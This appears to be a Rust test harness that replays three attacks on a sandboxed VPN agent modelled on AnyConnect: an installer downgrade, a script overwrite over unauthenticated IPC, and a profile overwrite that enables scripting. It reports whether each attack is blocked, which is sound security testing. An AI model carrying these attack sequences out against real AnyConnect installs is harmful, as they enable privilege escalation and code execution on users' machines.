//! End-to-end reproductions of the agent's architectural weaknesses, each run
//! against a private agent in a throwaway sandbox.

use std::fmt;
use std::fs;
use std::io::{Read, Write};
use std::net::{Shutdown, SocketAddr, TcpStream};
use std::time::Duration;

use serde::{Deserialize, Serialize};

use crate::agent::{
    serve, AgentHandle, AgentPolicy, EventKind, InstallerPackage, InstallerVerdict, SeededBugs,
};
use crate::codec::{
    build_disconnect, build_reconnect, build_script_move, reference, serialize, DeployCommand,
    DigestAlgo, IpcMessage, Profile,
};

const PROFILE_NAME: &str = "AnyConnectProfile.xml";
const ATTACKER_SCRIPT: &[u8] = b"#!/bin/sh\n# staged by the scenario, never run\nid\n";
const DOWNGRADE_VERSION: &str = "4.8.03036";

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "SCREAMING_SNAKE_CASE")]
pub enum Verdict {
    VulnerableReproduced,
    Blocked,
    /// The attack ran without a gate rejecting it but had no effect.
    NotReproduced,
    Error,
}

impl fmt::Display for Verdict {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Verdict::VulnerableReproduced => "VULNERABLE_REPRODUCED",
            Verdict::Blocked => "BLOCKED",
            Verdict::NotReproduced => "NOT_REPRODUCED",
            Verdict::Error => "ERROR",
        })
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ScenarioResult {
    pub name: String,
    pub verdict: Verdict,
    /// Gate that rejected the attack, when the verdict is BLOCKED.
    pub blocked_by: Option<String>,
    /// Modes recorded in the agent's deployed-files ledger.
    pub deployed_modes: Vec<u32>,
    /// Event-log lines produced during the run.
    pub evidence: Vec<String>,
}

#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct ScenarioOptions {
    pub restrict_script_web_deploy: bool,
    pub enforce_version_order: bool,
    pub wrong_digest: bool,
    pub tamper_payload: bool,
    pub skip_reconnect: bool,
}

pub const SCENARIOS: [&str; 3] = ["downgrade", "script-overwrite", "profile-overwrite"];

pub fn run_scenario(name: &str, opts: ScenarioOptions) -> Option<ScenarioResult> {
    match name {
        "downgrade" => Some(scenario_downgrade(opts)),
        "script-overwrite" => Some(scenario_script_overwrite(opts)),
        "profile-overwrite" => Some(scenario_profile_overwrite(opts)),
        _ => None,
    }
}

pub fn run_all(opts: ScenarioOptions) -> Vec<ScenarioResult> {
    SCENARIOS
        .iter()
        .filter_map(|n| run_scenario(n, opts))
        .collect()
}

struct Lab {
    _dir: tempfile::TempDir,
    agent: AgentHandle,
    log_mark: usize,
}

impl Lab {
    fn start(opts: ScenarioOptions, scripting: bool) -> std::io::Result<Lab> {
        let dir = tempfile::tempdir()?;
        let mut policy = AgentPolicy::new(dir.path()).with_port(0);
        policy.restrict_script_web_deploy = opts.restrict_script_web_deploy;
        policy.enforce_version_order = opts.enforce_version_order;
        fs::create_dir_all(&policy.profile_dir)?;
        fs::write(
            policy.profile_dir.join(PROFILE_NAME),
            profile_xml(scripting),
        )?;
        let agent = serve(policy, SeededBugs::none()).map_err(std::io::Error::other)?;
        let log_mark = agent.log().len();
        Ok(Lab {
            _dir: dir,
            agent,
            log_mark,
        })
    }

    fn root(&self) -> std::path::PathBuf {
        self.agent.with_core(|c| c.sandbox().root().to_path_buf())
    }

    fn stage(&self, rel: &str, content: &[u8]) -> std::io::Result<()> {
        let path = self.agent.with_core(|c| c.sandbox().temp_dir().join(rel));
        fs::create_dir_all(path.parent().unwrap())?;
        fs::write(path, content)
    }

    fn send(&self, msg: &IpcMessage) -> std::io::Result<Vec<u8>> {
        let bytes = serialize(msg).map_err(std::io::Error::other)?;
        session(self.agent.addr(), &bytes)
    }

    fn events(&self) -> Vec<EventKind> {
        self.agent.log().snapshot()[self.log_mark..]
            .iter()
            .map(|e| e.kind.clone())
            .collect()
    }

    fn finish(&self, name: &str, verdict: Verdict, blocked_by: Option<String>) -> ScenarioResult {
        let root = self.root();
        ScenarioResult {
            name: name.into(),
            verdict,
            blocked_by,
            deployed_modes: self
                .agent
                .with_core(|c| c.state().deployed.iter().map(|d| d.mode).collect()),
            evidence: self.agent.log().snapshot()[self.log_mark..]
                .iter()
                .map(|e| e.to_line().replace(&*root.to_string_lossy(), "<sandbox>"))
                .collect(),
        }
    }
}

fn session(addr: SocketAddr, bytes: &[u8]) -> std::io::Result<Vec<u8>> {
    let mut s = TcpStream::connect_timeout(&addr, Duration::from_secs(2))?;
    s.set_read_timeout(Some(Duration::from_secs(2)))?;
    s.write_all(bytes)?;
    s.shutdown(Shutdown::Write)?;
    let mut out = Vec::new();
    s.read_to_end(&mut out)?;
    Ok(out)
}

fn profile_xml(scripting: bool) -> String {
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<AnyConnectProfile>\n  <ClientInitialization>\n    <EnableScripting UserControllable=\"false\">{scripting}</EnableScripting>\n  </ClientInitialization>\n</AnyConnectProfile>\n"
    )
}

fn error_result(name: &str, err: impl fmt::Display) -> ScenarioResult {
    ScenarioResult {
        name: name.into(),
        verdict: Verdict::Error,
        blocked_by: None,
        deployed_modes: vec![],
        evidence: vec![err.to_string()],
    }
}

fn move_command(
    port: u16,
    src: &str,
    dst: &str,
    content: &[u8],
    flag: char,
    wrong: bool,
) -> DeployCommand {
    let mut digest = DigestAlgo::Sha1.digest_upper_hex(content);
    if wrong {
        digest = DigestAlgo::Sha1.digest_upper_hex(b"something else");
    }
    DeployCommand {
        reply_port: port,
        src_path: src.into(),
        dst_path: dst.into(),
        digest_hex: digest,
        mode_flag: flag,
        ..reference::script_deploy_command()
    }
}

fn rejection(events: &[EventKind], dst_suffix: &str) -> Option<String> {
    events.iter().find_map(|e| match e {
        EventKind::Rejected { reason, dst, .. } if dst.ends_with(dst_suffix) => {
            Some(reason.clone())
        }
        _ => None,
    })
}

/// Stages a script, deploys it over unauthenticated IPC, then disconnects.
fn deploy_and_disconnect(lab: &Lab, wrong_digest: bool) -> std::io::Result<()> {
    lab.stage(".acATTACK/OnDisconnect", ATTACKER_SCRIPT)?;
    let cmd = move_command(
        lab.agent.port(),
        "/tmp/.acATTACK/OnDisconnect",
        "/opt/cisco/anyconnect/script/OnDisconnect",
        ATTACKER_SCRIPT,
        '1',
        wrong_digest,
    );
    let profile = Profile::default();
    let msg = build_script_move(&cmd, reference::VPNDOWNLOADER_PATH, &profile)
        .map_err(std::io::Error::other)?;
    lab.send(&msg)?;
    lab.send(&build_disconnect(lab.agent.port(), &profile).map_err(std::io::Error::other)?)?;
    Ok(())
}

fn would_execute(lab: &Lab, events: &[EventKind]) -> bool {
    let target = lab
        .agent
        .with_core(|c| c.sandbox().script_dir().join("OnDisconnect"));
    events
        .iter()
        .any(|e| matches!(e, EventKind::WouldExecute { path, .. } if path == &target))
}

pub fn scenario_script_overwrite(opts: ScenarioOptions) -> ScenarioResult {
    const NAME: &str = "script-overwrite";
    let run = || -> std::io::Result<ScenarioResult> {
        let lab = Lab::start(opts, true)?;
        deploy_and_disconnect(&lab, opts.wrong_digest)?;
        let events = lab.events();
        Ok(if would_execute(&lab, &events) {
            lab.finish(NAME, Verdict::VulnerableReproduced, None)
        } else if let Some(reason) = rejection(&events, "OnDisconnect") {
            lab.finish(NAME, Verdict::Blocked, Some(reason))
        } else {
            lab.finish(NAME, Verdict::Error, None)
        })
    };
    run().unwrap_or_else(|e| error_result(NAME, e))
}

pub fn scenario_profile_overwrite(opts: ScenarioOptions) -> ScenarioResult {
    const NAME: &str = "profile-overwrite";
    let run = || -> std::io::Result<ScenarioResult> {
        let lab = Lab::start(opts, false)?;
        let evil = profile_xml(true);
        lab.stage(".acATTACK/profile.xml", evil.as_bytes())?;
        let cmd = move_command(
            lab.agent.port(),
            "/tmp/.acATTACK/profile.xml",
            &format!("/opt/cisco/anyconnect/profile/{PROFILE_NAME}"),
            evil.as_bytes(),
            '0',
            opts.wrong_digest,
        );
        let profile = Profile::default();
        lab.send(
            &build_script_move(&cmd, reference::VPNDOWNLOADER_PATH, &profile)
                .map_err(std::io::Error::other)?,
        )?;
        if !opts.skip_reconnect {
            lab.send(&build_reconnect(lab.agent.port(), &profile).map_err(std::io::Error::other)?)?;
        }
        deploy_and_disconnect(&lab, false)?;

        let events = lab.events();
        let profile_blocked = rejection(&events, PROFILE_NAME);
        let scripting = lab.agent.with_core(|c| c.state().scripting_enabled);
        Ok(if would_execute(&lab, &events) {
            lab.finish(NAME, Verdict::VulnerableReproduced, None)
        } else if let Some(reason) = profile_blocked {
            lab.finish(NAME, Verdict::Blocked, Some(reason))
        } else if let Some(reason) = rejection(&events, "OnDisconnect") {
            // The profile went through; only the script step was stopped.
            lab.finish(
                NAME,
                Verdict::Blocked,
                Some(format!("{reason} (profile overwritten)")),
            )
        } else if !scripting {
            lab.finish(NAME, Verdict::NotReproduced, None)
        } else {
            lab.finish(NAME, Verdict::Error, None)
        })
    };
    run().unwrap_or_else(|e| error_result(NAME, e))
}

pub fn scenario_downgrade(opts: ScenarioOptions) -> ScenarioResult {
    const NAME: &str = "downgrade";
    let run = || -> std::io::Result<ScenarioResult> {
        let lab = Lab::start(opts, false)?;
        let mut pkg =
            InstallerPackage::signed(DOWNGRADE_VERSION, b"anyconnect-linux64 installer payload");
        if opts.tamper_payload {
            pkg.payload[0] ^= 0xff;
        }
        let verdict = lab.agent.with_core(|c| c.check_installer(&pkg));
        Ok(match verdict {
            InstallerVerdict::Accept => lab.finish(NAME, Verdict::VulnerableReproduced, None),
            other => lab.finish(NAME, Verdict::Blocked, Some(other.to_string())),
        })
    };
    run().unwrap_or_else(|e| error_result(NAME, e))
}
